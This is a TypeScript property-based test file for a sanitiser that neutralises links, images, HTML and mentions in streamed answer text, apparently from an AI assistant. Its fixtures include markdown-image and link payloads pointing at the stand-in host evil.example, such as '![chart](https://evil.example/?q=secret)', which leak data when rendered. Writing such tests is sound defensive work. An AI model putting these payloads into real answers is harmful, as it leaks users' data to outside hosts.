import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { inertText } from '../../../src/cards/parts/inertText.ts';

const parts = fc.constantFrom(
  ...['![', '[', ']', '(', ')', '][', ']: ', '<', '>', 'a', 'img src=', '/', 'at', '@', '!', '\n'],
  ...[
    'https://evil.example/?q=1',
    'www.evil.example',
    'x@evil.example',
    '1@2.example',
    'examplewww.evil.example@',
    'ftp://',
    'WWW.',
    '\r\n',
    '**',
    '😀',
    '\\',
    '`',
    '\u202E',
  ],
);
const texts = fc.array(parts, { maxLength: 30 }).map((all) => all.join(''));

function targetsIn(text: string): string[] {
  const found: string[] = [];
  void marked.walkTokens(marked.lexer(text), ({ type, raw }) => {
    if (['link', 'image', 'html', 'def'].includes(type)) found.push(raw);
  });
  return found;
}

describe('a text of an answer that is streamed', () => {
  it.each([
    '![chart](https://evil.example/?q=secret)',
    '[click](https://evil.example)',
    '[click][1]\n\n[1]: https://evil.example',
    '<https://evil.example>',
    '<img src="https://evil.example/a.png">',
    '<at>everyone</at>',
    'Look at https://evil.example/a or www.evil.example',
    'Write to x@evil.example',
    'Write to 1@2.example',
    'x@evil.examplewww.evil.example@',
  ])('loads and opens nothing: %s', (text) => {
    expect(targetsIn(text).length).toBeGreaterThan(0);
    expect(targetsIn(inertText(text))).toEqual([]);
  });

  it('loads and opens nothing, whatever it says', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(targetsIn(inertText(text))).toEqual([]);
      }),
    );
  });

  it('keeps its form', () => {
    const text = '## Sales\n\n- **EMEA**: 1 < 2, `a[0]`, 3:4\n\n| a | b |\n| - | - |';
    expect(inertText(text)).toBe(text);
  });

  it('stays the beginning of what it becomes', () => {
    fc.assert(
      fc.property(texts, fc.nat(200), (text, length) => {
        expect(inertText(text).startsWith(inertText(text.slice(0, length)))).toBe(true);
      }),
    );
  });
});
